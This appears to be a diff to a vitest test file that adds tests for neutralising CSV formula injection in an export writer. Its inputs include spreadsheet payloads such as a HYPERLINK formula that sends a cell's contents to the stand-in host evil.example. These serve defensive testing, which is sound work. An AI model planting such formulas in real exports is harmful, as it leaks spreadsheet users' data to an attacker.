@@ -1,6 +1,6 @@
 /** The CSV writer (RFC 4180, BOM, CRLF, masked and hidden values) and the browser's entry counter. */
 import { describe, expect, it } from 'vitest';
-import { BOM, CSV_HEADER, csvField, csvLine, csvValue, entryCsvLines } from '../../db/export/csv';
+import { BOM, CSV_HEADER, csvField, csvLine, csvValue, entryCsvLines, spreadsheetText } from '../../db/export/csv';
 import { createEntryCounter } from '../../renderer/api/export-count';
 import type { HistoryEntry } from '../../shared/domain';
 import { describeExportSource, exportFileName, isExportRequest, UNKNOWN_OLD_VALUE_TEXT } from '../../shared/export-contract';
@@ -98,6 +98,41 @@ describe('the CSV writer', () => {
     expect(entryCsvLines(entry({ changeCue: 'Unchanged', byId: null, byName: null }), 'Order')).toBe(
       '2024-04-02T09:00:00.000Z,,,Order,1,7,Unchanged,,,\r\n',
     );
+  });
+});
+
+describe('cells a spreadsheet would run', () => {
+  it('get a leading quote when they start with =, +, -, @, a tab or a CR, and nothing else does', () => {
+    expect(spreadsheetText('=HYPERLINK("http://evil.example/?x="&A1,"Open")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Open")');
+    expect(spreadsheetText('@SUM(1)')).toBe("'@SUM(1)");
+    expect(spreadsheetText('\t=1')).toBe("'\t=1");
+    expect(spreadsheetText('\r=1')).toBe("'\r=1");
+    expect(spreadsheetText('-2+3')).toBe("'-2+3");
+    expect(spreadsheetText('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
+    for (const safe of ['', 'Bob Baker', 'a=b', ' =1', '2-1', "'quoted", '(hidden)', '***-**-6789']) expect(spreadsheetText(safe)).toBe(safe);
+  });
+
+  it('are neutralised in every column, numbers left as they are, and still quoted by RFC 4180', () => {
+    const text = entryCsvLines(
+      {
+        ...entry({ changes: [{ field: '@Field', old: -2.5, new: '=HYPERLINK("http://evil.example","click")' }] }),
+        byTime: '=NOW()',
+        byName: '=HYPERLINK("http://evil.example","Bob")',
+        byId: '-1',
+        recordId: '+7',
+        logId: '@8',
+      },
+      '-Table',
+    );
+    expect(text).toBe(
+      `'=NOW(),"'=HYPERLINK(""http://evil.example"",""Bob"")",'-1,'-Table,'+7,'@8,Modified,'@Field,-2.5,"'=HYPERLINK(""http://evil.example"",""click"")"\r\n`,
+    );
+    expect(entryCsvLines(entry({ byId: -3, recordId: -4, logId: -5, changes: [{ field: 'Balance', old: -10, new: '-10' }] }), 'T')).toBe(
+      "2024-04-02T09:00:00.000Z,Bob Baker,-3,T,-4,-5,Modified,Balance,-10,'-10\r\n",
+    );
+    expect(csvLine([spreadsheetText('\r=1+1')])).toBe(`"'\r=1+1"\r\n`);
+    expect(csvValue('@SUM(1)')).toBe("'@SUM(1)");
+    expect(csvValue(-1)).toBe('-1');
   });
 });
 
